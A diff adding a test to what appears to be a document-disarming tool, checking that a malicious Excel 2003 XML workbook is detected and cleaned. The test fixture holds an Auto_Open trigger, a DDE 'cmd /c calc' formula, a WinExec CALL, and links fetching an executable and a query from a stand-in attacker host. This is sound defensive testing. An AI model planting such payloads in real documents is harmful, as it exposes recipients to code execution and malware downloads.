@@ -717,6 +717,54 @@ def test_flat_opc_dtd_cut_out(tmp_path: Path) -> None:
     assert BASE_TEXT in text
 
 
+XMLSS = """<?xml version="1.0"?>
+<?mso-application progid="Excel.Sheet"?>
+<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"
+ xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"
+ xmlns:x="urn:schemas-microsoft-com:office:excel">
+<Names><NamedRange ss:Name="Auto_Open" ss:RefersTo="=Sheet1!R1C1"/></Names>
+<Worksheet ss:Name="集計"><Table>
+<Row><Cell><Data ss:Type="String">見積</Data></Cell>
+<Cell ss:Formula="=cmd|' /c calc'!A0"><Data ss:Type="Number">0</Data></Cell>
+<Cell ss:Formula="='C:\\secret\\[book.xls]Sheet1'!R1C1"><Data ss:Type="Number">7</Data></Cell>
+<Cell ss:Formula="=CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;c&quot;,0)">
+<Data ss:Type="Number">1</Data></Cell>
+<Cell ss:Formula="=SUM(R1C2:R1C3)"><Data ss:Type="Number">7</Data></Cell></Row>
+<Row><Cell ss:HRef="https://www.city.example.lg.jp/"><Data ss:Type="String">市のサイト</Data></Cell>
+<Cell ss:HRef="file://///evil.example/share/x.exe"><Data ss:Type="String">資料</Data></Cell></Row>
+</Table>
+<x:QueryTable><x:Name>q</x:Name><x:Connection>URL;http://evil.example/q</x:Connection></x:QueryTable>
+</Worksheet></Workbook>
+"""
+
+
+def test_excel2003_xml_disarmed_in_place(tmp_path: Path) -> None:
+    """Excel 2003 XML was sniffed as plain text and delivered with its DDE formula."""
+    r = run(tmp_path, XMLSS.encode(), "集計.xml")
+    assert r.report.input.type == "ooxml.xmlss" and r.report.verdict is Verdict.DISARMED
+    assert r.keys() == {("ooxml.xlm_macro", "Workbook#NamedRange[Auto_Open]"),
+                        ("ooxml.dde", "Workbook#cell[2]"),
+                        ("ooxml.external_link", "Workbook#cell[3]"),
+                        ("ooxml.xlm_macro", "Workbook#cell[4]"),
+                        ("ooxml.hyperlink", "Workbook#cell[6]"),
+                        ("ooxml.hyperlink", "Workbook#cell[7]"),
+                        ("ooxml.external_data", "Workbook#QueryTable")}
+    assert r.action("ooxml.hyperlink", "Workbook#cell[6]") == "kept"
+    assert r.action("ooxml.hyperlink", "Workbook#cell[7]") == "removed"
+    assert r.out is not None
+    out = r.out.read_bytes().decode("utf-8")
+    root = DET.fromstring(out.encode(), forbid_dtd=True)
+    formulas = [v for el in root.iter() for k, v in el.attrib.items() if k.endswith("}Formula")]
+    assert formulas == ["=SUM(R1C2:R1C3)"]                  # the harmless formula stays
+    for gone in ("cmd|", "secret", "CALL", "Auto_Open", "evil.example"):
+        assert gone not in out, gone
+    assert out.startswith('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
+                          '<?mso-application progid="Excel.Sheet"?>')
+    text = oc.libreoffice_text(r.out, "calc")
+    for kept in ("見積", "市のサイト", "資料"):
+        assert kept in text, kept
+
+
 def test_word2003_xml_disarmed_in_place(tmp_path: Path) -> None:
     r = run(tmp_path, G.wordml_2003(), "2003.xml")
     assert r.report.input.type == "ooxml.wordml"
